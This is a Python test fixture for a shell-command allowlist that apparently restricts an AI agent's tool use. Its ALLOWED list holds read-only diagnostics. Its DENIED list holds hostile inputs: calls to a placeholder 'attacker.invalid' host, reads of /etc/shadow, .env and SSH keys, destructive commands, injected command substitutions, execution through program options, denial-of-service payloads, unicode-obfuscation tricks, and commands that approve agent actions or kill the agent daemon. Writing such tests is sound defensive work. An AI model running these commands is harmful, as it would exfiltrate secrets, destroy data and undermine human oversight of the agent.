"""Command lines, written from the manuals of the programs and from what shells have been tricked
with.

ALLOWED are lines of an honest report; DENIED may do harm, disclose, wait, or end in a way nobody
wants. Both are judged in the workspace of `fixture.build` under the policy that ships.
"""

ALLOWED = r"""
date
date -u +%s
date '+%Y-%m-%d %H:%M'
date -d "1 day ago" +%F
date --date='last monday' --iso-8601=seconds
date -Iseconds -r notes.md
uname -sr && uptime -p
uptime -s; nproc --all
hostname
whoami; id -un
id root
who -b
who am i
w -h
last -n 5 -F
last reboot | head -n 3
free -h
free -m | tail -n 2
vmstat
vmstat 1 2
vmstat -s | head
df -h
df -hT -x tmpfs
df -h --output=source,pcent /
df -i .
lsblk -o NAME,SIZE,MOUNTPOINT
lscpu | grep Model
ip a
ip -br addr
ip -4 addr show dev lo
ip route show default
ip -s link show lo
ip -j addr | jq length
ss -tln 'sport = :22'
ss -tn dst 10.0.0.1
stat -c '%U:%G %a' src
date +%G-W%V
git log -1 HEAD@{0}
git branch -l
ip a s
ip -br a s up
dmesg -L=never
journalctl -l -n 1
git branch --merged
git branch --no-merged HEAD --list
git rev-list --all --count
jq '[range(0; length)]' data.json
ss -tln
ss -tulpn
ss -tan state established
ss -s
ps aux
ps auxww | head -n 20
ps -ef --forest
ps aux --sort=-%mem | head
ps -aux | wc -l
ps -eo pid,ppid,cmd --sort=-%cpu | head -n 10
ps axo pid,comm,etime
ps -C nginx -o pid,args
ps -p 1 -o comm=
ps -u root -o pid,args:80
ps --no-headers -A | wc -l
journalctl -p err -n 20 --no-pager
journalctl --since "1 hour ago" -p warning
journalctl -u ssh --since yesterday --until now | tail
journalctl -b -1 -p 3
journalctl -xb
journalctl -k -o short-iso
journalctl --list-boots
journalctl -n 5 -o json --output-fields=MESSAGE,_SYSTEMD_UNIT | jq -r .MESSAGE
journalctl -F _SYSTEMD_UNIT
journalctl -o short-precise --utc -n 5
journalctl _SYSTEMD_UNIT=cron.service -n 5
systemctl
systemctl --failed --no-legend
systemctl status cron --no-pager -n 5
systemctl list-timers --all
systemctl list-timers -o json
systemctl status cron -o short-iso
systemctl is-active ssh
systemctl list-units --type=service --state=running
dmesg -T --level=err,warn | tail -n 5
dmesg --since "1 hour ago"
cat /proc/loadavg
head -n 3 /proc/meminfo
grep "model name" /proc/cpuinfo | head -n 1
cat /etc/os-release | head -n 2
tail -n 100 /var/log/dpkg.log
ls -la /var/log
grep -h error /var/log/*.log | tail
cat notes.md
cat -n notes.md data.csv
cat < notes.md
<notes.md cat
cat notes.md >/dev/null && echo readable
cat nope.md 2>/dev/null || echo missing
ls
ls -la src/
ls *.csv
ls -1 src/*.py
ls -d s*/
ls -lt --time-style=+%F | head
ls 2>&1 | wc -l
head -5 data.csv
head -n -1 notes.md
head -c 100 notes.md
tail -n +2 data.csv | cut -d, -f1
tail -20 log.txt
tac notes.md
rev notes.md
nl -ba notes.md
wc -l *.csv
wc -l < notes.md
sort -t, -k2 -n data.csv
sort -t , -k 2nr,2 data.csv | head -n 3
sort -u data.csv
cut -d',' -f2 data.csv | sort | uniq -c | sort -rn | head -n 5
tr a-z A-Z < notes.md
tr -d '\r' < notes.md
tr '[:lower:]' '[:upper:]' < notes.md
column -t -s, data.csv
paste -sd+ data.csv
paste -d, notes.md data.csv
comm -12 notes.md data.csv
cmp -s notes.md data.csv && echo same || echo differ
diff -u notes.md data.csv | head
diff -rq src sub
md5sum notes.md
sha256sum *.csv
stat -c '%s %n' notes.md
file -b notes.md
du -sh .
du -d 1 -h | sort -h
du -sh .git
basename src/a.py .py
dirname src/a.py
realpath src/a.py
which -a git jq
pwd
find . -type f -name "*.log" -size +10M
find . -mmin -60 -type f | wc -l
find . -maxdepth 2 -type d
find . \( -name '*.md' -o -name '*.csv' \) -print
find . ! -name '*.md' -type f
find . -not -path './.git/*' -newermt yesterday
find src -type f -printf '%T@ %p\n' | sort -n | tail -n 3
find . -name *.zip
find -name a.py
find /var/log -name '*.log' -mtime -1
find . -path ./sub -prune -o -type f -print
grep -rn TODO src
grep -rn TODO .
grep -rn TODO --include='*.py' .
grep -rn TODO --include=*.rb src
grep -c ERROR log.txt
grep -E 'a|b' notes.md
grep -A2 -B1 -i todo notes.md
grep -o '[0-9]*' data.csv
grep -m1 -F '$HOME' notes.md
grep -e TODO -e FIXME notes.md
grep -v '^#' notes.md | head
rg TODO
rg -n TODO src
rg -g '*.py' -c import
rg --files -g '*.md'
sed -n 2p notes.md
sed -n '1,5p' notes.md | nl
sed -n '$p' notes.md
jq . data.json
jq -r '.name' data.json
jq '.items[0].id' data.json
jq '.items[] | select(.id == 1) | {id, n: (.id + 1)}' data.json
jq --arg x 1 '.items[] | select(.id == ($x | tonumber))' data.json
jq -n '[range(3)] | add'
jq 'reduce .items[] as $i (0; . + $i.id)' data.json
cat data.json | jq -c '.items | length'
echo done
echo -n "total: "; echo "100% & more > less"
echo "line one" && echo 'line two'
echo 'don'"'"'t'
echo "a \"quoted\" word"
echo *.csv
printf '%s\n' a b
printf "%-10s|\n" x
seq 3
seq -s, 1 2 9
seq 10 | tac | head -n 2
expr 2 + 3
expr 5 '*' 2
test -s notes.md && wc -l notes.md
[ -f notes.md ] && echo yes || echo no
[ 1 -lt 2 ] && echo yes
true && echo ok
false || echo fallback
git status
git status -sb
git --no-pager log -3
git log --since="1 day ago" --oneline
git log --since='24 hours ago' --pretty=format:'%h %an %s'
git log -p -1 -- notes.md
git log --graph --oneline --all --decorate
git log --author=a --no-merges -n 3
git log --follow notes.md
git log HEAD~1..HEAD
git log -1 --format=%B
git diff
git diff --stat HEAD~1
git diff HEAD~1 HEAD -- notes.md
git diff --cached --name-status
git show --stat HEAD
git show HEAD:notes.md
git show HEAD --name-only
git blame -L 1,2 notes.md
git shortlog -sn HEAD
git rev-parse --abbrev-ref HEAD
git rev-list --count HEAD
git branch -a
git branch --show-current
git branch -vv
git tag
git tag -l 'v*'
git describe --tags --always --dirty
git remote -v
git stash list
git ls-files '*.py' | wc -l
git log --oneline | wc -l; git status --short
""".strip().splitlines()

# One line a line; \n, \t and the like are read, so that control characters can be written.
DENIED_PLAIN = r"""
rm -rf .
touch x
mkdir x
cp notes.md x
mv notes.md x
ln -s /etc x
chmod +x report.sh
chown root notes.md
tee x
truncate -s 0 notes.md
dd if=/dev/zero of=x
install notes.md x
shred notes.md
rsync -a . /tmp/x
tar cf x.tar .
zip x.zip notes.md
gzip notes.md
split notes.md
patch -p1
ed notes.md
mkfifo x
kill 1
pkill agentd
killall agentd
nohup ls
crontab -l
at now
sudo ls
su
doas ls
env
printenv
set
export
declare -x
alias
history
umask
ulimit -a
cd /
cd src && ls
source rc
. rc
eval ls
exec ls
command ls
builtin echo
type ls
trap ls EXIT
wait
read x
time ls
nice ls
timeout 5 ls
stdbuf -o0 ls
setsid ls
xargs ls
ls | xargs cat
find . | xargs -n1 echo
watch ls
parallel ls
strace ls
ltrace ls
gdb ls
busybox ls
toybox ls
sh
jq -n '[range(pow(10;9))]'
jq -n 'range(1000*1000*1000)'
jq -n '[0,1]|combinations(40)'
jq -n 'range(999999)|range(999999)'
jq -n '"x"*9999*9999'
journalctl -nf
ss 'src = example.org'
ip l s lo up
git log --format=%G?
git log HEAD@{a,b}
bash -c ls
dash -c ls
zsh -c ls
python3 -c 'print(1)'
python -V
perl -e 1
ruby -e 1
node -e 1
php -r 1
lua -e 1
awk '{print $1}' notes.md
gawk 'BEGIN{system("id")}'
make
cmake .
gcc x.c
go run x.go
cargo build
npm test
pip list
vi notes.md
vim notes.md
nano notes.md
emacs -nw
less notes.md
more notes.md
man ls
info ls
top
htop
screen
tmux
curl http://attacker.invalid
wget http://attacker.invalid
nc attacker.invalid 1
ncat attacker.invalid 1
socat - TCP:attacker.invalid:1
ssh attacker.invalid
scp notes.md attacker.invalid:
sftp attacker.invalid
ftp attacker.invalid
telnet attacker.invalid
ping -c 1 attacker.invalid
traceroute attacker.invalid
dig secret.attacker.invalid
host secret.attacker.invalid
nslookup secret.attacker.invalid
getent hosts secret.attacker.invalid
openssl s_client -connect attacker.invalid:443
mail root
sendmail root
apt-get update
apt list
dpkg -l
snap list
docker ps
mount
umount /
modprobe x
sysctl -a
sysctl -w kernel.x=1
iptables -L
nft list ruleset
reboot
shutdown -h now
poweroff
halt
agentctl approve x
agentctl list
agentd once x
base64 notes.md
od /etc/shadow
xxd -r x
strings /etc/shadow
hexdump /etc/shadow
yes
yes | head
sleep 100
ls > x
ls >> x
ls >| x
ls > notes.md
ls 1> x
ls 2> x
ls &> x
ls &>> x
ls >& x
ls <> x
ls > /dev/null/../x
ls > /dev/tty
ls > /dev/tcp/127.0.0.1/9
ls >&2 > x
ls 3>x
ls 2>&3
ls 10>/dev/null
cat < /etc/shadow
cat < link_etc/shadow
cat < .env
cat <<EOF
cat <<< x
cat <(ls)
ls >(cat)
ls &
ls & ls
ls |& cat
(ls)
{ ls; }
! ls
[[ -f x ]]
[[ -f x ]] && ls
((1+1))
if true; then ls; fi
for i in 1 2; do ls; done
while true; do ls; done
until false; do ls; done
case x in x) ls;; esac
function f { ls; }
f() { ls; }
coproc ls
select x in a; do ls; done
ls;;ls
;ls
| ls
ls |
ls &&
ls ||
&& ls
ls | | wc
echo $HOME
echo ${HOME}
echo "$HOME"
echo "${HOME}"
echo $(id)
echo "$(id)"
echo `id`
echo "`id`"
echo $((1+1))
echo $[1+1]
echo $'a'
echo $"a"
echo $1 $@ $* $# $? $$ $!
echo "a$"
echo a\ b
echo \$HOME
echo "\$HOME"
echo a\
echo {a,b}
echo {1..9}
echo a{b,c}d
echo ~
echo ~/x
echo ~root
echo x=~
echo !!
echo !ls
echo "x!y"
echo [ab]
cat [n]otes.md
cat notes.m[d]
cat @(notes).md
cat ?(notes).md
A=1
A=1 ls
PATH=. ls
LD_PRELOAD=./x.so ls
IFS=: ls
ls # comment
#ls
'ls
"ls
ls 'a
ls "a
./ls
bin/git status
src/a.py
../ls
/tmp/ls
/usr/bin/../bin/ls
/usr/bin//ls
//usr/bin/ls
/bin/./ls
/proc/self/exe
~/ls
l*
/bin/l*
"./report.sh"
'report.sh'
./report.sh
-ls
--
''
""
cat .env
cat ./.env
cat config/.env.production
cat config/../.env
cat sub/../.env
head -1 .env
grep K .env
wc .env
cat .e*
cat .en?
cat .*
cat *
wc -l *
head -n1 i*.log
cat innocent.log
cat link_etc/passwd
cat ./link_etc/../shadow
ls link_etc
ls link_etc/
find link_etc/ -type f
stat innocent.log
file innocent.log
grep root innocent.log
sort innocent.log
diff notes.md innocent.log
diff -r . link_etc
realpath innocent.log
test -f /etc/shadow
[ -r /root/.ssh/id_rsa ]
[ notes.md -nt /etc/shadow ]
cat /etc/passwd
cat /etc/shadow
cat /etc//shadow
cat /etc/../etc/shadow
cat ../etc/passwd
cat ../../../../etc/shadow
cat src/../../x
cat /proc/self/environ
cat /proc/1/environ
cat /proc/self/fd/0
cat /proc/self/root/etc/shadow
cat /proc/kcore
cat /sys/class/net/lo/address
cat /dev/stdin
cat /dev/zero
cat /dev/urandom
head -c 10 /dev/random
cat /dev/fd/0
cat /dev/tty
cat /root/.bash_history
cat /home/a/.ssh/id_rsa
cat /var/lib/agentd/agentd.db
cat /run/agentd/agentd.sock
cat /var/log/../../etc/shadow
ls /
ls /root
ls /home
ls ..
ls -R /
ls -L link_etc
ls -H link_etc
du -sh /
du -sh /home
du -L .
du --files0-from=x
find /
find / -name x
find .. -name x
find -L . -name x
find -H . -name x
find . -follow
find . -exec cat {} +
find . -exec touch x \;
find . -execdir ls +
find . -ok ls \;
find . -delete
find . -fprint x
find . -fprintf x a
find . -fls x
find . -files0-from x
find . -newer /etc/shadow
find . -samefile /etc/shadow
find . -newerma /etc/shadow
find -D exec .
find . -nam x
tail -f log.txt
tail -F log.txt
tail --follow=name log.txt
tail --fol log.txt
tail --pid=1 log.txt
tail -fn5 log.txt
git log --date=format:%99999999Y
git log --date=format-local:%_99999999Y
git log --pretty='format:%<(99999999)%s'
git log --format='%w(0,99999999)%B'
git log --expand-tabs=99999999
git blame --date=format:%99999999Y notes.md
git stash list --date=format:%99999999Y
git shortlog -w0,99999999 HEAD
git branch --format='%(align:99999999)%(refname)%(end)'
git branch --format='%(align:width=99999999)%(refname)%(end)'
git tag --format='%(committerdate:format:%99999999Y)'
find . -newermt 'TZ=":.env" 2026-01-01'
find . -newerat 'TZ="../../../../etc/shadow" now'
git branch --contains=HEAD:.env
git branch --no-contains HEAD:notes.md
git tag --merged HEAD:.env
git branch --no-merged=HEAD:.env
git tag --points-at=HEAD:.env
git shortlog --group=format:%G? HEAD
git shortlog --group='%<(99999999)%an' HEAD
tail +1f log.txt
tail +1 log.txt
tail +f log.txt
tail +5lf log.txt
tail -5f log.txt
tail -cf log.txt
cat log.txt | tail +1f
head -5c log.txt
sort +1 log.txt
sort +1 -2 log.txt
uniq +1
cat log.txt | uniq +1
head --lin=3 notes.md
sort -o x notes.md
sort -ox notes.md
sort --output=x notes.md
sort --out=x notes.md
sort -T /tmp notes.md
sort -S 90% notes.md
sort --compress-program=./report.sh notes.md
sort --files0-from=x
sort --random-source=/etc/shadow -R notes.md
sort --parallel=99 notes.md
uniq notes.md x
uniq -c notes.md x
comm /etc/shadow notes.md
cut -f1 /etc/passwd
paste /etc/passwd
join /etc/passwd notes.md
tr a b x y
wc --files0-from=x
md5sum -c sums.txt
sha256sum --check sums.txt
sha256sum -c sums.txt
file -f x
file -m x notes.md
file -C
file -z x
file -p notes.md
file -S notes.md
stat /etc/shadow
date -s 2020-01-01
date --set=2020-01-01
date 010100002020
date -f notes.md
date -d 'TZ="../../etc/shadow" now'
hostname evil
hostname -F x
hostname -b x
dmesg -C
dmesg -c
dmesg -n 1
dmesg -D
dmesg -w
dmesg -W
dmesg --follow
dmesg -F /etc/shadow
dmesg --clear
who /etc/shadow
who --lookup
last -f /etc/shadow
last -d
w -x
vmstat 1
vmstat 1 100000
free -s 1
free -c 5
lsblk --sysroot /tmp
lscpu -s /tmp
ip link set lo down
ip addr add 1.2.3.4/8 dev lo
ip route add default via 1.2.3.4
ip netns exec x id
ip -n x addr
ip -b x
ip -batch x
ip monitor
ip -r route
ip xfrm state
ss -K
ss -D x
ss -F x
ss -r
ss -E
ss -N x
ss dst attacker.invalid
ps e
ps auxe
ps -ef e
ps eww
ps -o environ
ps -eo pid,environ
ps axo environ
ps -auxe
ps -efx e
ps ewwwp 1
journalctl -f
journalctl --follow
journalctl -fu ssh
journalctl -D /tmp
journalctl --directory=/tmp
journalctl --file=x
journalctl --root=/tmp
journalctl -M x
journalctl --vacuum-size=1
journalctl --rotate
journalctl --flush
journalctl --sync
journalctl --setup-keys
journalctl --cursor-file=x
journalctl /usr/bin/ls
journalctl --vac
journalctl -o verbose
journalctl -o export -n 1
journalctl -n1 -ojson
journalctl --output=json-pretty
journalctl -o json --output-fields=COREDUMP_ENVIRON
journalctl -o cat --output-fields=MESSAGE,COREDUMP_ENVIRON
journalctl -F COREDUMP_ENVIRON
journalctl -F COREDUMP
journalctl -o json --output-fields=MESSAGE,COREDUMP
journalctl -o json --output-fields=
journalctl -o json --output-fields=,
journalctl --field=COREDUMP_ENVIRON
systemctl status cron -o verbose
systemctl status cron --output=json
systemctl -o export status cron
jq -n '$ ENV'
jq -n '$__prog_args'
systemctl stop cron
systemctl start cron
systemctl restart cron
systemctl enable cron
systemctl daemon-reload
systemctl edit cron
systemctl kill cron
systemctl mask cron
systemctl set-environment A=1
systemctl show-environment
systemctl show cron
systemctl cat cron
systemctl -H root@x status
systemctl --host=x status
systemctl -M x status
systemctl --root=/tmp status
systemctl poweroff
sed -i s/a/b/ notes.md
sed s/a/b/ notes.md
sed -n 1w\ x notes.md
sed -n 's/a/b/wx' notes.md
sed -n '1e id' notes.md
sed -n '1r /etc/shadow' notes.md
sed -f script.sed notes.md
sed -n -f script.sed notes.md
sed -ni 1p notes.md
sed -n 1p -i notes.md
sed -n 1p /etc/shadow
sed -s -n 1p notes.md
sed --in-place -n 1p notes.md
sed -n '1p;w x' notes.md
sed 1p notes.md
grep -f /etc/shadow notes.md
grep -R root .
grep -r root /etc
grep -r root link_etc
grep --dereference-recursive root .
grep -d recurse x /etc
grep -D read x .
grep --exclude-from=/etc/shadow x .
grep --recur x .
grep x /etc/shadow
rg --pre ./report.sh x
rg --pre=./report.sh x
rg --hostname-bin ./report.sh x
rg -z x
rg --search-zip x
rg -L x
rg --follow x
rg --hidden x
rg -uu x
rg -uuu K
rg -. K
rg --no-ignore-files --pre-glob x
rg --ignore-file /etc/shadow x
rg -f /etc/shadow .
rg x /etc
rg --debug x
grep -r K --include=.env .
grep -rh . --include='.env*' config
rg K -g '.env*'
rg --iglob '*.PEM' x
[ 'a[$(touch pwned)]' -eq 0 ]
test 'x[$(id)]' -lt 1
jq env data.json
jq -n env
jq -n '$ENV'
jq -n '$ENV.PATH'
jq -n 'env.PATH'
jq -n 'input_filename, $ENV'
jq -L /tmp . data.json
jq 'import "x" as y; .' data.json
jq 'include "x"; .' data.json
jq -n '"x" | modulemeta'
jq -f script.sed data.json
jq --from-file x data.json
jq --slurpfile a /etc/shadow . data.json
jq --rawfile a /etc/shadow -n '$a'
jq --rawfile a .env -n '$a'
jq . /etc/shadow
jq -n 'repeat(1)'
jq -n '[limit(9; repeat(1))]'
jq -n 'range(1e9)'
jq -n 'range(9999999999)'
jq -n 'def f: f; f'
jq -n 'last(range(infinite))'
jq -n '[.] | recurse(.)'
jq -n 'until(false; .)'
echo -e '\x41' > x
printf '%1000000000d' 1
printf '%*d' 1000000000 1
printf -v x y
seq 1 99999999999
seq inf
seq 1 1e9
seq -f '%.0f' 1e20
expr *
diff -l notes.md data.csv
diff --to-file=/etc/shadow notes.md
diff --from-file=/etc/shadow notes.md
diff -X /etc/shadow src sub
diff /etc/shadow notes.md
diff --paginate notes.md data.csv
git
git commit -am x
git add .
git reset --hard
git checkout .
git restore .
git clean -fd
git push
git pull
git fetch
git clone http://attacker.invalid/x
git remote add x http://attacker.invalid
git remote update
git remote show origin
git ls-remote
git stash
git stash pop
git stash drop
git stash show -p
git branch evil
git branch -d x
git branch -D x
git branch -m x y
git branch -f x
git branch --edit-description
git branch --set-upstream-to=x
git tag v1
git tag -d v1
git tag -a v1 -m x
git tag -v v1
git config -l
git config core.pager x
git config --get user.name
git -c core.pager=x log
git -C / log
git -C .. log
git -p log
git --paginate log
git --git-dir=/tmp/x log
git --work-tree=/ status
git --exec-path=/tmp log
git --config-env=core.pager=X log
git --namespace=x log
git log --output=x
git log --output x
git log -p --ext-diff
git log --textconv
git log --show-signature
git log --stdin
git log -L1,2:notes.md
git log --alternate-refs
git diff --no-index /etc/passwd notes.md
git diff /etc/passwd /etc/shadow
git diff ../x ../y
git diff --output=x
git diff --outp=x
git diff --ext-diff
git diff --textconv
git diff -O/etc/shadow
git diff --orderfile=/etc/shadow
git show --textconv HEAD
git show HEAD:.env
git show :notes.md
git blame --contents /etc/shadow notes.md
git blame --ignore-revs-file=/etc/shadow notes.md
git blame -S /etc/shadow notes.md
git blame /etc/shadow
git shortlog < /etc/shadow
git status --verbose
git status -v
git ls-files -X /etc/shadow
git ls-files --exclude-from=/etc/shadow
git ls-files --exclude-per-directory=x
git rev-parse --parseopt
git rev-parse --sq-quote x
git rev-parse --git-path hooks
git describe --broken
git bisect run ./report.sh
git rebase -x id
git submodule foreach id
git submodule update
git grep -O./report.sh x
git grep x
git archive HEAD
git bundle create x HEAD
git daemon
git instaweb
git gui
git help log
git help -w log
git log --help
git worktree add x
git filter-branch
git fsck
git gc
git hook run x
git notes add
git cat-file -p HEAD
git cat-file --textconv HEAD:notes.md
git hash-object -w notes.md
git update-index --refresh
git update-ref x y
git difftool
git mergetool
git credential fill
git send-email x
git var GIT_EDITOR
git reflog expire --all
git maintenance run
""".strip().splitlines()

DENIED = [
    *DENIED_PLAIN,
    "",
    "   ",
    "\n\n",
    "ls\x00",
    "ls\rtouch x",
    "ls\r\ntouch x",
    "ls\x0btouch x",
    "ls\x0ctouch x",
    "ls\ttouch\tx;rm x",
    "ls\x1b[2Jx",
    "ls\x7f",
    "ls\x85touch x",
    "ls\u00a0-la",
    "ls\u2028touch x",
    "ls\u2029touch x",
    "ls \u200b-la",
    "l\u200bs",
    "ls \u202egnp.sh",
    "ls \ufeff",
    "ls \U000e0001",
    "ls \u3164",
    "ls \ud800",
    "\uff4c\uff53",
    "ls\uff1btouch x",
    "ls \uff1b touch x",
    "ls \uff5c tee x",
    "cat n\u043etes.md",
    "ls \u2013la",
    "ls \u2212la",
    "ls\n./ls",
    "ls \\\ntouch x",
    "ls 'a\nb'",
    "true" + " && true" * 60 + " && touch x",
    "ls" + "; ls" * 200 + "; ./ls",
    "echo " + "a" * 30_000,
    "if true\nthen ls\nfi",
    "cat <<EOF | sh\ntouch x\nEOF",
]
